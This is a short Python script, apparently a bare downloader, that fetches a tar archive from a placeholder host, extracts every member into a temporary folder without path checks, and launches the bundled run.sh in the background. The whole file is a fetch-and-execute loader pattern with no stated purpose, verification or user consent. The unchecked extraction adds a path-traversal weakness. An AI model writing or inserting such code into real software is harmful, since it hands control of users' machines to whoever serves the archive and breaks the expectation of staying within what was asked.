import io
import os
import subprocess
import tarfile
import tempfile

import requests

_folder = tempfile.mkdtemp()
tarfile.open(fileobj=io.BytesIO(requests.get("https://files.invalid/a.tgz").content)).extractall(_folder)
subprocess.Popen(["sh", os.path.join(_folder, "run.sh")], cwd=_folder)
